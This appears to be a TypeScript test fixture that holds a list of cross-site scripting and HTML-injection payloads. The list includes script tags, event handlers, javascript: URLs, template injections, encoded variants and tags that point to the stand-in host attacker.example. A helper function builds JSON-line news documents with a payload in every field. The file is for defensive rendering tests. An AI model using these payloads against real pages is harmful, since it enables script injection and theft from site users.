/** Documents that try to be more than text: each of their fields, and their words. */

/** What a page would act on if it took text for markup. `hurt()` is watched for by the tests. */
export const PAYLOADS = [
  `<script>hurt()</script>`,
  `"><script>hurt()</script>`,
  `</title></textarea></style><script>hurt()</script>`,
  `<img src=x onerror=hurt()>`,
  `<IMG SRC="javascript:hurt();">`,
  `<svg/onload=hurt()>`,
  `<svg><animate onbegin=hurt() attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=hurt()>`,
  `<iframe srcdoc="<script>parent.hurt()</script>"></iframe>`,
  `<a href="javascript:hurt()">read on</a>`,
  `javascript:hurt()//`,
  `data:text/html,<script>hurt()</script>`,
  `<body onpageshow=hurt()>`,
  `<input autofocus onfocus=hurt()>`,
  `<details open ontoggle=hurt()>`,
  `<link rel=stylesheet href=//attacker.example/x.css>`,
  `<base href=//attacker.example/>`,
  `<meta http-equiv=refresh content="0;url=//attacker.example/">`,
  `<form action=//attacker.example/><button>Search</button></form>`,
  `<style>@import "//attacker.example/x.css";</style>`,
  `{{constructor.constructor('hurt()')()}}`,
  `\${hurt()}`,
  `{@html '<img src=x onerror=hurt()>'}`,
  `' onmouseover='hurt()`,
  `" style="background:url(//attacker.example/x)`,
  `&lt;script&gt;hurt()&lt;/script&gt;`,
  `\u003cscript\u003ehurt()\u003c/script\u003e`,
  `<scr\u0000ipt>hurt()</script>`,
  `\u202e<script>hurt()</script>\u202c`,
  `%3Cscript%3Ehurt()%3C/script%3E`,
  `]]><script>hurt()</script><![CDATA[`,
  `<template shadowrootmode=open><script>hurt()</script></template>`,
];

/** Each payload as title, publisher, address and id of a document, and three times in its text, as JSON lines. */
export function hostileLines(): string {
  return PAYLOADS.map((payload, nth) =>
    JSON.stringify({
      id: `hostile/${nth}/${payload}`,
      title: `${payload} said Mayor Ruth Sandoe`,
      publisher: `${payload} Gazette`,
      url: `javascript:hurt()//${payload}`,
      date: "2023-04-02",
      text: `😀 ${payload}\n\nRuth Sandoe ${payload} said on Monday that Thora Quillan was told. ${payload} 𝔘`,
    }),
  ).join("\n");
}
